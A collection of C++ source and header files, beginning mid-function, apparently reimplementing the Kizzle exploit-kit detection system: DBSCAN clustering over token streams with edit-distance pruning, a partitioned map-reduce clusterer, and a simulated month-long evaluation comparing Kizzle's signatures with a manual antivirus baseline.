    std::vector<std::size_t> neighbors = region_query(p);
    if (mass_of(neighbors) < min_mass) continue;  // stays noise unless claimed
    const int cid = next_cluster++;
    result.label[p] = cid;
    std::deque<std::size_t> frontier;
    for (std::size_t q : neighbors) {
      if (!enqueued[q]) {
        enqueued[q] = true;
        frontier.push_back(q);
      }
    }
    while (!frontier.empty()) {
      const std::size_t q = frontier.front();
      frontier.pop_front();
      if (result.label[q] == kNoise) result.label[q] = cid;  // border point
      if (visited[q]) continue;
      visited[q] = true;
      std::vector<std::size_t> q_neighbors = region_query(q);
      if (mass_of(q_neighbors) >= min_mass) {
        for (std::size_t r : q_neighbors) {
          if (!enqueued[r]) {
            enqueued[r] = true;
            frontier.push_back(r);
          }
        }
      }
    }
  }
  result.n_clusters = next_cluster;
  return result;
}

}  // namespace

DbscanResult dbscan(
    std::size_t n_points,
    const std::function<double(std::size_t, std::size_t)>& distance,
    std::span<const std::size_t> weights, const DbscanParams& params) {
  if (!weights.empty() && weights.size() != n_points) {
    throw std::invalid_argument("dbscan: weights size mismatch");
  }
  auto region_query = [&](std::size_t p) {
    std::vector<std::size_t> out;
    for (std::size_t q = 0; q < n_points; ++q) {
      if (q == p || distance(p, q) <= params.eps) out.push_back(q);
    }
    return out;
  };
  return run_dbscan(n_points, weights, params.min_mass, region_query);
}

TokenDbscan::TokenDbscan(std::span<const std::vector<std::uint32_t>> streams,
                         std::span<const std::size_t> weights,
                         const DbscanParams& params, ThreadPool* pool)
    : streams_(streams), params_(params), pool_(pool) {
  if (!weights.empty() && weights.size() != streams.size()) {
    throw std::invalid_argument("TokenDbscan: weights size mismatch");
  }
  weights_.assign(weights.begin(), weights.end());
  if (weights_.empty()) weights_.assign(streams.size(), 1);
}

void TokenDbscan::build_graph() {
  const auto t0 = std::chrono::steady_clock::now();
  const std::size_t n = streams_.size();
  adj_.assign(n, {});
  stats_ = DbscanStats{};  // a retry after a failed build starts clean

  // Only the dense folded histograms are built eagerly: a 64-bucket fold
  // of the symbol counts whose L1 is a lower bound on the exact histogram
  // L1 (folding can only cancel differences), evaluated with one fixed
  // 64-lane loop per pair. The exact sparse histogram and the winnow
  // sketch are built lazily — one atomic once-init per point — because
  // whole workloads never reach those tiers.
  hist_.assign(n, {});
  sketch_.assign(n, {});
  std::vector<std::atomic<int>> hist_state(n);    // 0 empty, 1 building, 2 ready
  std::vector<std::atomic<int>> sketch_state(n);
  auto lazy_init = [](std::vector<std::atomic<int>>& state, std::size_t i,
                      const auto& build) {
    for (;;) {
      const int s = state[i].load(std::memory_order_acquire);
      if (s == 2) return;
      if (s == 0) {
        int expected = 0;
        if (state[i].compare_exchange_strong(expected, 1,
                                             std::memory_order_acq_rel)) {
          try {
            build();
          } catch (...) {
            // Reopen the slot so waiters retry (or fail) instead of
            // spinning forever; the pool rethrows from wait().
            state[i].store(0, std::memory_order_release);
            throw;
          }
          state[i].store(2, std::memory_order_release);
          return;
        }
      } else {
        std::this_thread::yield();
      }
    }
  };
  auto hist_of = [&](std::size_t i) -> const dist::SymbolHistogram& {
    lazy_init(hist_state, i, [&] {
      hist_[i] = dist::SymbolHistogram::of(streams_[i]);
    });
    return hist_[i];
  };
  auto sketch_of = [&](std::size_t i) -> const winnow::FingerprintSet& {
    lazy_init(sketch_state, i, [&] {
      sketch_[i] =
          winnow::FingerprintSet::of_symbols(streams_[i], kSketchParams);
    });
    return sketch_[i];
  };

  // Sort by (length, index): the length bound then admits, for each point,
  // exactly one contiguous window of the sorted order.
  std::vector<std::size_t> order(n);
  std::iota(order.begin(), order.end(), 0);
  std::sort(order.begin(), order.end(), [&](std::size_t a, std::size_t b) {
    if (streams_[a].size() != streams_[b].size()) {
      return streams_[a].size() < streams_[b].size();
    }
    return a < b;
  });

  // The DP limit depends only on the longer stream's length, so resolve
  // normalized_limit once per sorted slot instead of once per pair.
  std::vector<std::size_t> limit_at(n);
  for (std::size_t s = 0; s < n; ++s) {
    limit_at[s] = dist::normalized_limit(params_.eps, streams_[order[s]].size());
  }

  struct TaskState {
    std::vector<std::pair<std::size_t, std::size_t>> edges;
    DbscanStats stats;
  };
  const std::size_t max_tasks =
      pool_ ? std::max<std::size_t>(1, pool_->size() * 8) : 1;
  std::vector<TaskState> task_state(std::min(n, max_tasks));

  constexpr std::size_t kBuckets = 64;
  std::vector<std::uint32_t> folded(n * kBuckets, 0);
  auto fill_range = [&](std::size_t, std::size_t begin, std::size_t end) {
    for (std::size_t s = begin; s < end; ++s) {
      const std::size_t i = order[s];
      std::uint32_t* f = &folded[i * kBuckets];
      for (const std::uint32_t sym : streams_[i]) {
        ++f[(sym * 2654435761u) >> 26];  // Fibonacci fold to 64 buckets
      }
    }
  };
  auto folded_bound = [&](std::size_t i, std::size_t j) {
    const std::uint32_t* fa = &folded[i * kBuckets];
    const std::uint32_t* fb = &folded[j * kBuckets];
    std::uint64_t l1 = 0;
    for (std::size_t b = 0; b < kBuckets; ++b) {
      l1 += (fa[b] > fb[b]) ? fa[b] - fb[b] : fb[b] - fa[b];
    }
    return static_cast<std::size_t>((l1 + 1) / 2);
  };

  auto scan_range = [&](std::size_t task, std::size_t begin, std::size_t end) {
    TaskState& ts = task_state[task];
    std::optional<dist::BitMatcher> matcher;  // built lazily per anchor
    for (std::size_t si = begin; si < end; ++si) {
      const std::size_t i = order[si];
      const std::size_t la = streams_[i].size();
      matcher.reset();
      // The anchor's lazily built tier data is resolved once per anchor,
      // not once per surviving pair.
      const dist::SymbolHistogram* hist_i = nullptr;
      const winnow::FingerprintSet* sketch_i = nullptr;
      for (std::size_t sj = si + 1; sj < n; ++sj) {
        const std::size_t j = order[sj];
        const std::size_t lb = streams_[j].size();  // lb >= la
        const std::size_t limit = limit_at[sj];
        if (lb - la > limit) {
          // lb - normalized_limit(eps, lb) is non-decreasing in lb for
          // eps < 1 (and never positive for eps >= 1), so every later
          // point of the sorted order is pruned too.
          ts.stats.pairs_considered += n - sj;
          ts.stats.pairs_pruned_length += n - sj;
          break;
        }
        ++ts.stats.pairs_considered;
        if (lb == 0) {  // both streams empty: distance 0
          ts.edges.emplace_back(i, j);
          continue;
        }
        if (folded_bound(i, j) > limit) {
          ++ts.stats.pairs_pruned_histogram;
          continue;
        }
        if (hist_i == nullptr) hist_i = &hist_of(i);
        if (dist::edit_distance_lower_bound(*hist_i, hist_of(j), la, lb) >
            limit) {
          ++ts.stats.pairs_pruned_histogram;
          continue;
        }
        // Only consult the sketch tier when the DP it might save is
        // expensive (kSketchMinDpWork) and the floor can fire at all
        // (see sketch_rules_out): otherwise go straight to the DP.
        constexpr std::size_t kT = kSketchParams.k + kSketchParams.window - 1;
        if ((la + 63) / 64 * lb >= kSketchMinDpWork &&
            lb > limit + (limit + 1) * (kT - 1)) {
          if (sketch_i == nullptr) sketch_i = &sketch_of(i);
          if (winnow::sketch_rules_out(sketch_i->intersection(sketch_of(j)),
                                       lb, limit, kSketchParams)) {
            ++ts.stats.pairs_pruned_sketch;
            continue;
          }
        }
        ++ts.stats.dp_computations;
        if (!matcher) matcher.emplace(streams_[i]);
        const std::size_t d =
            matcher->ok()
                ? matcher->bounded(streams_[j], limit)
                : dist::edit_distance_bounded_reference(streams_[i],
                                                        streams_[j], limit);
        if (d <= limit) ts.edges.emplace_back(i, j);
      }
    }
  };

  if (n > 0) {
    // The pair scan reads hist_/sketch_ of every later sorted slot, so the
    // fill phase must complete before any scan task starts.
    if (pool_ && task_state.size() > 1) {
      pool_->parallel_ranges(n, task_state.size(), fill_range);
      pool_->parallel_ranges(n, task_state.size(), scan_range);
    } else {
      fill_range(0, 0, n);
      scan_range(0, 0, n);
    }
  }

  for (const TaskState& ts : task_state) {
    stats_.pairs_considered += ts.stats.pairs_considered;
    stats_.pairs_pruned_length += ts.stats.pairs_pruned_length;
    stats_.pairs_pruned_histogram += ts.stats.pairs_pruned_histogram;
    stats_.pairs_pruned_sketch += ts.stats.pairs_pruned_sketch;
    stats_.dp_computations += ts.stats.dp_computations;
    for (const auto& [i, j] : ts.edges) {
      adj_[i].push_back(j);
      adj_[j].push_back(i);
    }
  }
  for (auto& a : adj_) std::sort(a.begin(), a.end());

  stats_.graph_seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
          .count();
  // Only now: a pool task that threw (rethrown from wait()) must not leave
  // the object claiming a complete graph.
  graph_built_ = true;
}

const std::vector<std::vector<std::size_t>>& TokenDbscan::neighbors() {
  if (!graph_built_) build_graph();
  return adj_;
}

DbscanResult TokenDbscan::run() {
  if (!graph_built_) build_graph();
  return run_dbscan(streams_.size(), weights_, params_.min_mass,
                    [this](std::size_t p) {
                      std::vector<std::size_t> out;
                      out.reserve(adj_[p].size() + 1);
                      out.push_back(p);
                      out.insert(out.end(), adj_[p].begin(), adj_[p].end());
                      return out;
                    });
}

}  // namespace kizzle::cluster
