#include "cluster/dbscan.h"

#include <algorithm>
#include <deque>
#include <stdexcept>

namespace kizzle::cluster {

std::vector<std::vector<std::size_t>> DbscanResult::members() const {
  std::vector<std::vector<std::size_t>> out(
      static_cast<std::size_t>(n_clusters));
  for (std::size_t i = 0; i < label.size(); ++i) {
    if (label[i] != kNoise) {
      out[static_cast<std::size_t>(label[i])].push_back(i);
    }
  }
  return out;
}

namespace {

// Shared DBSCAN skeleton. `region_query(p)` returns all points within eps of
// p, *including p itself*.
DbscanResult run_dbscan(
    std::size_t n, std::span<const std::size_t> weights,
    std::size_t min_mass,
    const std::function<std::vector<std::size_t>(std::size_t)>& region_query) {
  DbscanResult result;
  result.label.assign(n, kNoise);
  std::vector<bool> visited(n, false);
  auto mass_of = [&](const std::vector<std::size_t>& pts) {
    std::size_t m = 0;
    for (std::size_t q : pts) m += weights.empty() ? 1 : weights[q];
    return m;
  };
  int next_cluster = 0;
  for (std::size_t p = 0; p < n; ++p) {
    if (visited[p]) continue;
    visited[p] = true;
    std::vector<std::size_t> neighbors = region_query(p);
    if (mass_of(neighbors) < min_mass) continue;  // stays noise unless claimed
    const int cid = next_cluster++;
    result.label[p] = cid;
    std::deque<std::size_t> frontier(neighbors.begin(), neighbors.end());
    while (!frontier.empty()) {
      const std::size_t q = frontier.front();
      frontier.pop_front();
      if (result.label[q] == kNoise) result.label[q] = cid;  // border point
      if (visited[q]) continue;
      visited[q] = true;
      std::vector<std::size_t> q_neighbors = region_query(q);
      if (mass_of(q_neighbors) >= min_mass) {
        for (std::size_t r : q_neighbors) frontier.push_back(r);
      }
    }
  }
  result.n_clusters = next_cluster;
  return result;
}

}  // namespace

DbscanResult dbscan(
    std::size_t n_points,
    const std::function<double(std::size_t, std::size_t)>& distance,
    std::span<const std::size_t> weights, const DbscanParams& params) {
  if (!weights.empty() && weights.size() != n_points) {
    throw std::invalid_argument("dbscan: weights size mismatch");
  }
  auto region_query = [&](std::size_t p) {
    std::vector<std::size_t> out;
    for (std::size_t q = 0; q < n_points; ++q) {
      if (q == p || distance(p, q) <= params.eps) out.push_back(q);
    }
    return out;
  };
  return run_dbscan(n_points, weights, params.min_mass, region_query);
}

TokenDbscan::TokenDbscan(std::span<const std::vector<std::uint32_t>> streams,
                         std::span<const std::size_t> weights,
                         const DbscanParams& params)
    : streams_(streams), params_(params) {
  if (!weights.empty() && weights.size() != streams.size()) {
    throw std::invalid_argument("TokenDbscan: weights size mismatch");
  }
  weights_.assign(weights.begin(), weights.end());
  if (weights_.empty()) weights_.assign(streams.size(), 1);
  hist_.reserve(streams.size());
  for (const auto& s : streams) {
    hist_.push_back(dist::SymbolHistogram::of(s));
  }
}

bool TokenDbscan::within(std::size_t i, std::size_t j) {
  ++stats_.pairs_considered;
  const std::size_t la = streams_[i].size();
  const std::size_t lb = streams_[j].size();
  const std::size_t longest = std::max(la, lb);
  if (longest == 0) return true;
  const auto limit =
      static_cast<std::size_t>(params_.eps * static_cast<double>(longest));
  const std::size_t len_diff = (la > lb) ? la - lb : lb - la;
  if (len_diff > limit) {
    ++stats_.pairs_pruned_length;
    return false;
  }
  if (dist::edit_distance_lower_bound(hist_[i], hist_[j], la, lb) > limit) {
    ++stats_.pairs_pruned_histogram;
    return false;
  }
  ++stats_.dp_computations;
  return dist::edit_distance_bounded(streams_[i], streams_[j], limit) <= limit;
}

std::vector<std::size_t> TokenDbscan::region_query(std::size_t p) {
  std::vector<std::size_t> out;
  out.push_back(p);
  for (std::size_t q = 0; q < streams_.size(); ++q) {
    if (q != p && within(p, q)) out.push_back(q);
  }
  return out;
}

DbscanResult TokenDbscan::run() {
  return run_dbscan(streams_.size(), weights_, params_.min_mass,
                    [this](std::size_t p) { return region_query(p); });
}

}  // namespace kizzle::cluster
