// The distributed clustering pipeline of Fig 7.
//
// The paper's deployment randomly partitions the daily sample set across a
// cluster of ~50 machines, runs DBSCAN per partition (map), and reconciles
// the per-partition clusters in a final reduce step, which the authors
// identify as the bottleneck. This module reproduces that dataflow on a
// thread pool: partitions stand in for machines, and the reduce step merges
// clusters whose medoids are within eps of each other.
//
// Both phases run on one shared pool: the map fans partitions out, and the
// reduce — the paper's bottleneck — fans out medoid selection (one task per
// cluster) and the O(c^2) medoid-merge distance work (one task per left
// endpoint). Merge decisions are pure distance predicates, so the result is
// deterministic regardless of thread count; only the union-find over the
// collected merge edges runs serially.
#pragma once

#include <cstdint>
#include <span>
#include <vector>

#include "cluster/dbscan.h"
#include "support/rng.h"

namespace kizzle::cluster {

struct PartitionedParams {
  std::size_t partitions = 8;  // simulated machines (paper: 50)
  std::size_t threads = 0;     // 0 = hardware concurrency
  DbscanParams dbscan;
  // Optional externally owned pool (e.g. the pipeline's, reused across
  // daily runs); when null, run() creates a private pool of `threads`.
  ThreadPool* pool = nullptr;
};

struct ClusterSet {
  // Each cluster lists indices into the original stream array.
  std::vector<std::vector<std::size_t>> clusters;
  std::vector<std::size_t> noise;
};

struct PipelineStats {
  DbscanStats map;            // aggregated across partitions (graph_seconds
                              // is summed: total build work, not wall-clock)
  DbscanStats reduce;         // medoid-merge distance work
  double map_seconds = 0.0;   // wall-clock of the parallel map phase
  double reduce_seconds = 0.0;
  std::size_t clusters_before_merge = 0;
  std::size_t clusters_after_merge = 0;
};

class PartitionedClusterer {
 public:
  explicit PartitionedClusterer(PartitionedParams params);

  // Clusters the streams; weights empty => all ones. The rng drives the
  // random partitioning (paper: "randomly partition the samples across a
  // cluster of machines").
  ClusterSet run(std::span<const std::vector<std::uint32_t>> streams,
                 std::span<const std::size_t> weights, Rng& rng);

  const PipelineStats& stats() const { return stats_; }

 private:
  PartitionedParams params_;
  PipelineStats stats_;
};

}  // namespace kizzle::cluster
