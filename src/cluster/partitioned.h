// The distributed clustering pipeline of Fig 7.
//
// The paper's deployment randomly partitions the daily sample set across a
// cluster of ~50 machines, runs DBSCAN per partition (map), and reconciles
// the per-partition clusters in a final reduce step, which the authors
// identify as the bottleneck. This module reproduces that dataflow on a
// thread pool: partitions stand in for machines, and the reduce step merges
// clusters whose medoids are within eps of each other.
#pragma once

#include <cstdint>
#include <span>
#include <vector>

#include "cluster/dbscan.h"
#include "support/rng.h"

namespace kizzle::cluster {

struct PartitionedParams {
  std::size_t partitions = 8;  // simulated machines (paper: 50)
  std::size_t threads = 0;     // 0 = hardware concurrency
  DbscanParams dbscan;
};

struct ClusterSet {
  // Each cluster lists indices into the original stream array.
  std::vector<std::vector<std::size_t>> clusters;
  std::vector<std::size_t> noise;
};

struct PipelineStats {
  DbscanStats map;            // aggregated across partitions
  DbscanStats reduce;         // medoid-merge distance work
  double map_seconds = 0.0;   // wall-clock of the parallel map phase
  double reduce_seconds = 0.0;
  std::size_t clusters_before_merge = 0;
  std::size_t clusters_after_merge = 0;
};

class PartitionedClusterer {
 public:
  explicit PartitionedClusterer(PartitionedParams params);

  // Clusters the streams; weights empty => all ones. The rng drives the
  // random partitioning (paper: "randomly partition the samples across a
  // cluster of machines").
  ClusterSet run(std::span<const std::vector<std::uint32_t>> streams,
                 std::span<const std::size_t> weights, Rng& rng);

  const PipelineStats& stats() const { return stats_; }

 private:
  // Medoid of a cluster: the member minimizing total normalized distance to
  // the other members (exact for small clusters, sampled for large ones).
  std::size_t medoid(std::span<const std::vector<std::uint32_t>> streams,
                     const std::vector<std::size_t>& cluster);

  PartitionedParams params_;
  PipelineStats stats_;
};

}  // namespace kizzle::cluster
