// DBSCAN (Ester, Kriegel, Sander, Xu 1996) over token streams.
//
// The paper clusters abstracted token streams with DBSCAN at a normalized
// edit-distance threshold of 0.10 (§III.A). Two entry points:
//
//   dbscan()        generic, with a caller-supplied distance callback —
//                   used in tests and small experiments.
//
//   TokenDbscan     production path over interned token streams, with
//                   weights (duplicate streams collapse to one weighted
//                   point), and the distance pre-filters from
//                   distance/edit_distance.h.
//
// Weights: incoming samples are deduplicated on their abstract token
// stream before clustering; a point's weight is the number of samples it
// stands for, and DBSCAN's minPts compares against neighborhood *mass*
// (sum of weights), which is exactly DBSCAN on the un-deduplicated input.
#pragma once

#include <cstdint>
#include <functional>
#include <span>
#include <vector>

#include "distance/edit_distance.h"

namespace kizzle::cluster {

constexpr int kNoise = -1;

struct DbscanParams {
  double eps = 0.10;         // normalized edit distance threshold
  std::size_t min_mass = 3;  // minimum neighborhood mass (a.k.a. minPts)
};

struct DbscanResult {
  std::vector<int> label;  // cluster id per point, kNoise for noise
  int n_clusters = 0;

  // Point indices per cluster id.
  std::vector<std::vector<std::size_t>> members() const;
};

// Generic DBSCAN; distance(i, j) must be symmetric. Weights may be empty
// (treated as all-ones).
DbscanResult dbscan(
    std::size_t n_points,
    const std::function<double(std::size_t, std::size_t)>& distance,
    std::span<const std::size_t> weights, const DbscanParams& params);

// Statistics for the performance benchmarks (§IV "Cluster-Based Processing
// Performance").
struct DbscanStats {
  std::size_t pairs_considered = 0;  // all candidate pairs examined
  std::size_t pairs_pruned_length = 0;
  std::size_t pairs_pruned_histogram = 0;
  std::size_t dp_computations = 0;  // banded DPs actually run
};

class TokenDbscan {
 public:
  // `streams` must outlive the clusterer. Weights empty => all ones.
  TokenDbscan(std::span<const std::vector<std::uint32_t>> streams,
              std::span<const std::size_t> weights,
              const DbscanParams& params);

  DbscanResult run();

  const DbscanStats& stats() const { return stats_; }

 private:
  std::vector<std::size_t> region_query(std::size_t p);
  bool within(std::size_t i, std::size_t j);

  std::span<const std::vector<std::uint32_t>> streams_;
  std::vector<std::size_t> weights_;
  DbscanParams params_;
  DbscanStats stats_;
  std::vector<dist::SymbolHistogram> hist_;  // per-point pre-filter data
};

}  // namespace kizzle::cluster
