// DBSCAN (Ester, Kriegel, Sander, Xu 1996) over token streams.
//
// The paper clusters abstracted token streams with DBSCAN at a normalized
// edit-distance threshold of 0.10 (§III.A). Two entry points:
//
//   dbscan()        generic, with a caller-supplied distance callback —
//                   used in tests and small experiments.
//
//   TokenDbscan     production path over interned token streams, with
//                   weights (duplicate streams collapse to one weighted
//                   point), and the distance pre-filters from
//                   distance/edit_distance.h.
//
// Weights: incoming samples are deduplicated on their abstract token
// stream before clustering; a point's weight is the number of samples it
// stands for, and DBSCAN's minPts compares against neighborhood *mass*
// (sum of weights), which is exactly DBSCAN on the un-deduplicated input.
//
// TokenDbscan no longer answers region queries with per-query linear
// sweeps. It builds the whole eps-neighbor graph up front, once, and
// region_query just reads the adjacency:
//
//   * points are sorted by stream length, so the length bound
//     (lev >= | |a|-|b| |) turns each point's candidate set into one
//     contiguous window of the sorted order instead of an n-wide scan;
//   * each unordered pair is examined exactly once (the seed code paid
//     for both (i,j) and (j,i), and re-paid on every region query);
//   * surviving pairs run through three pruning tiers — length bound,
//     symbol-histogram bound, winnowing-sketch overlap bound
//     (winnow::sketch_rules_out) — before the bit-parallel DP
//     (distance/bitparallel.h) confirms or rejects the edge;
//   * the build fans out over a support/ThreadPool when one is supplied;
//     results are deterministic regardless of thread count because edges
//     depend only on the distance predicate, never on execution order.
//
// The eps predicate is dist::normalized_limit(eps, longest), which agrees
// bit-for-bit with `normalized_edit_distance(a, b) <= eps` (the naive
// size_t(eps * longest) floor loses a unit at fractional boundaries —
// see the helper's comment in distance/edit_distance.h).
#pragma once

#include <cstdint>
#include <functional>
#include <span>
#include <vector>

#include "distance/edit_distance.h"
#include "winnow/winnow.h"

namespace kizzle {
class ThreadPool;
}

namespace kizzle::cluster {

constexpr int kNoise = -1;

struct DbscanParams {
  double eps = 0.10;         // normalized edit distance threshold
  std::size_t min_mass = 3;  // minimum neighborhood mass (a.k.a. minPts)
};

struct DbscanResult {
  std::vector<int> label;  // cluster id per point, kNoise for noise
  int n_clusters = 0;

  // Point indices per cluster id.
  std::vector<std::vector<std::size_t>> members() const;
};

// Generic DBSCAN; distance(i, j) must be symmetric. Weights may be empty
// (treated as all-ones).
DbscanResult dbscan(
    std::size_t n_points,
    const std::function<double(std::size_t, std::size_t)>& distance,
    std::span<const std::size_t> weights, const DbscanParams& params);

// Statistics for the performance benchmarks (§IV "Cluster-Based Processing
// Performance"). All pair counters are over unordered pairs, counted once
// per pair during the neighbor-graph build:
//   pairs_considered = C(n, 2)
//                    = pruned_length + pruned_histogram + pruned_sketch
//                      + dp_computations + trivial pairs (both empty).
struct DbscanStats {
  std::size_t pairs_considered = 0;  // all unordered pairs
  std::size_t pairs_pruned_length = 0;
  std::size_t pairs_pruned_histogram = 0;
  std::size_t pairs_pruned_sketch = 0;  // winnow-overlap lower bound
  std::size_t dp_computations = 0;      // bounded DPs actually run
  double graph_seconds = 0.0;           // neighbor-graph build wall-clock
};

class TokenDbscan {
 public:
  // `streams` must outlive the clusterer. Weights empty => all ones.
  // When `pool` is non-null the neighbor-graph build fans out over it
  // (the PartitionedClusterer map phase passes null: its partitions are
  // already parallel).
  TokenDbscan(std::span<const std::vector<std::uint32_t>> streams,
              std::span<const std::size_t> weights,
              const DbscanParams& params, ThreadPool* pool = nullptr);

  DbscanResult run();

  // The eps-neighbor adjacency (sorted, self excluded), building it on
  // first use. Exposed for the pairwise-throughput benchmarks.
  const std::vector<std::vector<std::size_t>>& neighbors();

  const DbscanStats& stats() const { return stats_; }

 private:
  void build_graph();

  std::span<const std::vector<std::uint32_t>> streams_;
  std::vector<std::size_t> weights_;
  DbscanParams params_;
  ThreadPool* pool_;
  DbscanStats stats_;
  std::vector<dist::SymbolHistogram> hist_;     // per-point pre-filter data
  std::vector<winnow::FingerprintSet> sketch_;  // per-point winnow sketch
  std::vector<std::vector<std::size_t>> adj_;
  bool graph_built_ = false;
};

}  // namespace kizzle::cluster
