#include "eval/experiment.h"

#include <algorithm>
#include <string>

#include "text/normalize.h"

namespace kizzle::eval {

namespace {

double rate(std::size_t num, std::size_t den) {
  return den == 0 ? 0.0 : static_cast<double>(num) / static_cast<double>(den);
}

std::size_t family_index_of_truth(kitgen::Truth t) {
  switch (t) {
    case kitgen::Truth::Nuclear:
      return kitgen::family_index(kitgen::KitFamily::Nuclear);
    case kitgen::Truth::SweetOrange:
      return kitgen::family_index(kitgen::KitFamily::SweetOrange);
    case kitgen::Truth::Angler:
      return kitgen::family_index(kitgen::KitFamily::Angler);
    case kitgen::Truth::Rig:
      return kitgen::family_index(kitgen::KitFamily::Rig);
    case kitgen::Truth::Benign:
      break;
  }
  return SIZE_MAX;
}

std::size_t family_index_of_name(std::string_view name) {
  for (std::size_t i = 0; i < kitgen::kNumFamilies; ++i) {
    if (name == kitgen::family_name(kitgen::family_from_index(i))) return i;
  }
  return SIZE_MAX;
}

}  // namespace

double DayMetrics::kizzle_fp_rate() const { return rate(kizzle_fp, n_benign); }
double DayMetrics::kizzle_fn_rate() const {
  return rate(kizzle_fn, n_malicious);
}
double DayMetrics::av_fp_rate() const { return rate(av_fp, n_benign); }
double DayMetrics::av_fn_rate() const { return rate(av_fn, n_malicious); }

FamilyTotals ExperimentResult::sum() const {
  FamilyTotals out;
  for (const FamilyTotals& f : totals) {
    out.ground_truth += f.ground_truth;
    out.kizzle_fp += f.kizzle_fp;
    out.kizzle_fn += f.kizzle_fn;
    out.av_fp += f.av_fp;
    out.av_fn += f.av_fn;
  }
  return out;
}

double family_threshold(const ExperimentConfig& cfg, kitgen::KitFamily f) {
  switch (f) {
    case kitgen::KitFamily::Nuclear: return cfg.threshold_nuclear;
    case kitgen::KitFamily::SweetOrange: return cfg.threshold_sweet_orange;
    case kitgen::KitFamily::Angler: return cfg.threshold_angler;
    case kitgen::KitFamily::Rig: return cfg.threshold_rig;
  }
  return 0.7;
}

MonthlyExperiment::MonthlyExperiment(ExperimentConfig cfg) : cfg_(cfg) {}

ExperimentResult MonthlyExperiment::run() {
  ExperimentResult result;
  Rng rng(cfg_.seed);

  const int metrics_start = cfg_.stream.start_day;
  kitgen::StreamConfig stream_cfg = cfg_.stream;
  stream_cfg.start_day -= std::max(0, cfg_.warmup_days);
  kitgen::StreamSimulator stream(stream_cfg);
  core::KizzlePipeline pipeline(cfg_.pipeline, rng.fork().next());
  for (const auto& [family, payload] : stream.seed_corpus()) {
    pipeline.seed_family(std::string(kitgen::family_name(family)),
                         family_threshold(cfg_, family), payload);
  }
  av::ManualAvEngine av_engine;
  av::Analyst analyst(cfg_.analyst);
  analyst.install_initial_signatures(stream, av_engine);

  // Fig 11 state: per-family history of daily centroid fingerprints.
  std::vector<winnow::FingerprintSet> history[kitgen::kNumFamilies];

  for (int day = stream_cfg.start_day; day <= stream_cfg.end_day; ++day) {
    kitgen::DailyBatch batch = stream.generate_day(day);
    analyst.observe_day(day, stream, av_engine);

    std::vector<std::string> htmls;
    htmls.reserve(batch.samples.size());
    for (const kitgen::Sample& s : batch.samples) htmls.push_back(s.html);
    const core::DayReport report = pipeline.process_day(day, htmls);
    if (day < metrics_start) continue;  // warm-up: run, but do not score

    DayMetrics metrics;
    metrics.day = day;
    metrics.n_benign = batch.benign_count;
    metrics.n_malicious = batch.malicious_count;
    metrics.clusters = report.n_clusters;
    metrics.noise_samples = report.n_noise_samples;
    metrics.pipeline_seconds = report.seconds;

    // ---- Scan every sample with both engines. ----
    for (const kitgen::Sample& s : batch.samples) {
      const std::string normalized = text::normalize_raw(s.html);

      // Kizzle: fully-deployed signatures first, then same-day issues with
      // deployment-latency loss.
      std::optional<std::size_t> kz =
          pipeline.scan_as_of(normalized, day - 1, true);
      if (!kz) {
        auto today = pipeline.scan_as_of(normalized, day, true);
        if (today && rng.chance(cfg_.same_day_catch)) kz = today;
      }
      const auto av_hit = av_engine.match(day, normalized);

      const std::size_t truth_idx = family_index_of_truth(s.truth);
      if (s.truth == kitgen::Truth::Benign) {
        if (kz) {
          ++metrics.kizzle_fp;
          const std::size_t fi =
              family_index_of_name(pipeline.signatures()[*kz].family);
          if (fi != SIZE_MAX) ++metrics.family[fi].kizzle_fp;
        }
        if (av_hit) {
          ++metrics.av_fp;
          ++metrics.family[kitgen::family_index(av_hit->family)].av_fp;
        }
      } else {
        ++metrics.family[truth_idx].total;
        if (!kz) {
          ++metrics.kizzle_fn;
          ++metrics.family[truth_idx].kizzle_fn;
        }
        if (!av_hit) {
          ++metrics.av_fn;
          ++metrics.family[truth_idx].av_fn;
        }
      }
    }

    // ---- Fig 11: similarity of today's centroids to all prior days. ----
    // Paper §IV: "We measure the overlap between the unpacked centroids of
    // malicious clusters on each day with centroids of the clusters of all
    // previous days based on winnowing and report the maximum overlap."
    for (std::size_t fi = 0; fi < kitgen::kNumFamilies; ++fi) {
      const auto family_str =
          std::string(kitgen::family_name(kitgen::family_from_index(fi)));
      std::vector<winnow::FingerprintSet> today;
      double sim = -1.0;
      for (const core::ClusterReport& cr : report.clusters) {
        if (cr.label != family_str) continue;
        auto fps = winnow::FingerprintSet::of_text(cr.prototype_text,
                                                   cfg_.pipeline.winnow);
        for (const auto& prev : history[fi]) {
          sim = std::max(sim, fps.containment(prev));
        }
        today.push_back(std::move(fps));
      }
      if (today.empty()) continue;
      metrics.family[fi].similarity = sim;  // -1 on the family's first day
      for (auto& fps : today) history[fi].push_back(std::move(fps));
    }

    // ---- Fig 12: latest deployed Kizzle signature length per family. ----
    for (const core::DeployedSignature& s : pipeline.signatures()) {
      if (s.issued_day > day) continue;
      const std::size_t fi = family_index_of_name(s.family);
      if (fi != SIZE_MAX) {
        metrics.family[fi].sig_length = s.pattern.size();
      }
    }

    if (on_day) on_day(metrics);
    result.days.push_back(metrics);
  }

  // ---- Totals (Fig 14). ----
  for (const DayMetrics& m : result.days) {
    result.total_benign += m.n_benign;
    result.total_malicious += m.n_malicious;
    for (std::size_t fi = 0; fi < kitgen::kNumFamilies; ++fi) {
      result.totals[fi].ground_truth += m.family[fi].total;
      result.totals[fi].kizzle_fp += m.family[fi].kizzle_fp;
      result.totals[fi].kizzle_fn += m.family[fi].kizzle_fn;
      result.totals[fi].av_fp += m.family[fi].av_fp;
      result.totals[fi].av_fn += m.family[fi].av_fn;
    }
  }
  result.kizzle_signatures = pipeline.signatures();
  result.av_releases = av_engine.releases();
  return result;
}

}  // namespace kizzle::eval
