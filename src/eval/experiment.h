// The month-long evaluation (paper §IV).
//
// Runs the full adversarial loop day by day over simulated August 2014:
//   1. the kit generators evolve and emit the day's grayware batch;
//   2. the manual-AV analyst reacts to kit changes with lagged releases;
//   3. Kizzle clusters, labels and compiles signatures from the batch;
//   4. every sample is scanned by both engines and scored against ground
//      truth.
//
// Same-day deployment latency: Kizzle "can generate new signatures within
// hours"; a signature issued on day d therefore catches only a fraction of
// day-d samples (those served after deployment), modeled by
// same_day_catch. From day d+1 the signature is fully deployed.
//
// The per-day metrics carry everything Figs 6/11/12/13 plot; the totals
// are the Fig 14 table.
#pragma once

#include <functional>
#include <vector>

#include "av/analyst.h"
#include "av/av_engine.h"
#include "core/pipeline.h"
#include "kitgen/stream.h"

namespace kizzle::eval {

struct ExperimentConfig {
  // stream.start_day should be kAug1: the analyst model only reacts to kit
  // events it observes, so starting mid-month would leave the AV baseline
